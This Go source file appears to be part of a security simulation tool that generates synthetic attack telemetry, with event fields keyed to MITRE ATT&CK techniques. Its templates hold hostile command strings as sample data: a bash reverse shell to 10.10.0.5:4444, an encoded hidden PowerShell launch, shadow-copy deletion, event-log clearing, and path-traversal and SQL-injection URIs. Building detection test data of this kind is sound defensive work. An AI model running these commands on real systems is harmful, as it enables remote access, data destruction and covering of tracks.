package synth

import (
	"context"
	"fmt"

	"mirage/core"
)

// Log categories synthesized events are routed under. The detection
// simulator turns these into rule-name labels and the persistence layer into
// per-category streams.
const (
	CategoryAuthentication = "authentication"
	CategoryProcess        = "process"
	CategoryNetwork        = "network"
	CategoryFile           = "file"
	CategoryEmail          = "email"
	CategoryWeb            = "web"
	CategoryEndpoint       = "endpoint"
)

var techniqueCategories = map[string]string{
	"T1003": CategoryAuthentication,
	"T1110": CategoryAuthentication,
	"T1555": CategoryAuthentication,
	"T1078": CategoryAuthentication,
	"T1059": CategoryProcess,
	"T1204": CategoryProcess,
	"T1053": CategoryProcess,
	"T1547": CategoryProcess,
	"T1543": CategoryProcess,
	"T1068": CategoryProcess,
	"T1486": CategoryProcess,
	"T1490": CategoryProcess,
	"T1562": CategoryProcess,
	"T1070": CategoryProcess,
	"T1195": CategoryProcess,
	"T1021": CategoryNetwork,
	"T1210": CategoryNetwork,
	"T1046": CategoryNetwork,
	"T1018": CategoryNetwork,
	"T1071": CategoryNetwork,
	"T1573": CategoryNetwork,
	"T1041": CategoryNetwork,
	"T1567": CategoryNetwork,
	"T1595": CategoryNetwork,
	"T1005": CategoryFile,
	"T1560": CategoryFile,
	"T1039": CategoryFile,
	"T1083": CategoryFile,
	"T1052": CategoryFile,
	"T1566": CategoryEmail,
	"T1190": CategoryWeb,
	"T1592": CategoryWeb,
}

// TechniqueCategory maps a technique to its log category
func TechniqueCategory(technique string) string {
	if cat, ok := techniqueCategories[technique]; ok {
		return cat
	}
	return CategoryEndpoint
}

// TemplateFiller is the built-in content-filling collaborator. It fills
// fields from static per-category templates plus a random source; a remote
// filler can replace it behind the same interface.
type TemplateFiller struct {
	rnd core.Rand
}

// NewTemplateFiller creates a template-driven filler
func NewTemplateFiller(rnd core.Rand) *TemplateFiller {
	return &TemplateFiller{rnd: rnd}
}

// FillContent produces concrete field values for one technique on one asset
func (f *TemplateFiller) FillContent(ctx context.Context, req ContentRequest) (core.FieldSet, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}

	fields := core.FieldSet{
		core.FieldTechnique: req.Technique,
		core.FieldAsset:     req.TargetAsset.Hostname,
		"source_host":       req.TargetAsset.Hostname,
		"source_ip":         req.TargetAsset.IP,
		"narrative":         req.Narrative,
	}

	switch TechniqueCategory(req.Technique) {
	case CategoryAuthentication:
		f.fillAuth(fields, req)
	case CategoryProcess:
		f.fillProcess(fields, req)
	case CategoryNetwork:
		f.fillNetwork(fields, req)
	case CategoryFile:
		f.fillFile(fields, req)
	case CategoryEmail:
		f.fillEmail(fields, req)
	case CategoryWeb:
		f.fillWeb(fields, req)
	default:
		fields["activity"] = req.StageName
	}

	return fields, nil
}

// FillAlertContent produces alert field values summarizing the detected
// activity.
func (f *TemplateFiller) FillAlertContent(ctx context.Context, req AlertRequest) (core.FieldSet, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	if len(req.Events) == 0 {
		return nil, fmt.Errorf("no events to describe for technique %s", req.Technique)
	}

	first := req.Events[0]
	last := req.Events[len(req.Events)-1]
	return core.FieldSet{
		core.FieldTechnique:     req.Technique,
		core.FieldCorrelationID: first.CorrelationID,
		core.FieldAsset:         first.SourceAsset,
		"title":                 fmt.Sprintf("%s activity on %s", req.Stage.Name, first.SourceAsset),
		"description": fmt.Sprintf("%d %s events attributed to technique %s between %s and %s",
			len(req.Events), first.Dataset, req.Technique,
			first.Timestamp.Format("15:04:05"), last.Timestamp.Format("15:04:05")),
		"event_count": len(req.Events),
		"first_seen":  first.Timestamp,
		"last_seen":   last.Timestamp,
	}, nil
}

func (f *TemplateFiller) fillAuth(fields core.FieldSet, req ContentRequest) {
	result := "success"
	if f.rnd.Float64() < 0.6 {
		result = "failed"
	}
	fields["username"] = core.Choice(f.rnd, []string{
		"admin", "svc_backup", "svc_sql", "jdoe", "asmith", "administrator",
	})
	fields["auth_result"] = result
	fields["auth_method"] = core.Choice(f.rnd, []string{"password", "ntlm", "kerberos", "ssh_key"})
	if req.Technique == "T1003" {
		fields["process_name"] = core.Choice(f.rnd, []string{"lsass.exe", "mimikatz.exe", "procdump.exe"})
		fields["target_process"] = "lsass.exe"
	}
}

func (f *TemplateFiller) fillProcess(fields core.FieldSet, req ContentRequest) {
	name := core.Choice(f.rnd, []string{"powershell.exe", "cmd.exe", "wscript.exe", "rundll32.exe", "bash"})
	cmdline := name
	switch req.Technique {
	case "T1059":
		cmdline = core.Choice(f.rnd, []string{
			"powershell -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdA==",
			"cmd.exe /c whoami /all",
			"bash -i >& /dev/tcp/10.10.0.5/4444 0>&1",
		})
	case "T1053":
		name = "schtasks.exe"
		cmdline = "schtasks /create /tn UpdateCheck /tr C:\\ProgramData\\update.exe /sc hourly"
	case "T1486":
		cmdline = core.Choice(f.rnd, []string{
			"vssadmin delete shadows /all /quiet",
			"cipher /w:C:\\",
		})
	case "T1070":
		name = "wevtutil.exe"
		cmdline = "wevtutil cl Security"
	}
	fields["process_name"] = name
	fields["command_line"] = cmdline
	fields["parent_process"] = core.Choice(f.rnd, []string{"explorer.exe", "services.exe", "winword.exe"})
	fields["user"] = core.Choice(f.rnd, []string{"SYSTEM", "Administrator", "jdoe"})
	fields["process_id"] = f.rnd.Intn(65535)
}

func (f *TemplateFiller) fillNetwork(fields core.FieldSet, req ContentRequest) {
	fields["dest_ip"] = fmt.Sprintf("10.%d.0.%d", 10+10*f.rnd.Intn(3), 10+f.rnd.Intn(100))
	fields["dest_port"] = []int{22, 135, 443, 445, 3389, 5985}[f.rnd.Intn(6)]
	fields["protocol"] = "tcp"
	fields["bytes_sent"] = f.rnd.Intn(500000)
	if req.Technique == "T1041" || req.Technique == "T1567" {
		// Exfiltration moves real volume to an external address
		fields["dest_ip"] = fmt.Sprintf("203.0.113.%d", 1+f.rnd.Intn(250))
		fields["dest_port"] = 443
		fields["bytes_sent"] = 50*1024*1024 + f.rnd.Intn(100*1024*1024)
	}
	fields["connection_state"] = core.Choice(f.rnd, []string{"established", "syn_sent", "closed"})
}

func (f *TemplateFiller) fillFile(fields core.FieldSet, req ContentRequest) {
	fields["file_path"] = core.Choice(f.rnd, []string{
		"C:\\Users\\jdoe\\Documents\\contracts.zip",
		"/srv/fileshare/finance/payroll.xlsx",
		"C:\\ProgramData\\staging\\archive-01.7z",
		"/home/asmith/designs/schematic.pdf",
	})
	fields["action"] = core.Choice(f.rnd, []string{"read", "copy", "archive"})
	fields["file_hash"] = fmt.Sprintf("%032x", f.rnd.Intn(1<<31))
	fields["user"] = core.Choice(f.rnd, []string{"jdoe", "asmith", "svc_backup"})
	if req.Technique == "T1560" {
		fields["process_name"] = "7z.exe"
		fields["action"] = "archive"
	}
}

func (f *TemplateFiller) fillEmail(fields core.FieldSet, req ContentRequest) {
	fields["sender"] = core.Choice(f.rnd, []string{
		"it-support@secure-mail-portal.example", "billing@invoice-delivery.example",
	})
	fields["subject"] = core.Choice(f.rnd, []string{
		"Password expiry notice", "Outstanding invoice 4471", "Updated travel policy",
	})
	fields["attachment"] = core.Choice(f.rnd, []string{"invoice.pdf.exe", "policy.docm", "remittance.iso"})
	fields["recipient_count"] = 1 + f.rnd.Intn(20)
}

func (f *TemplateFiller) fillWeb(fields core.FieldSet, req ContentRequest) {
	fields["method"] = core.Choice(f.rnd, []string{"GET", "POST"})
	fields["uri"] = core.Choice(f.rnd, []string{
		"/login?next=/../../etc/passwd",
		"/api/v2/export?id=1%20UNION%20SELECT%20*",
		"/cgi-bin/status",
	})
	fields["status_code"] = []int{200, 401, 403, 500}[f.rnd.Intn(4)]
	fields["user_agent"] = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
}
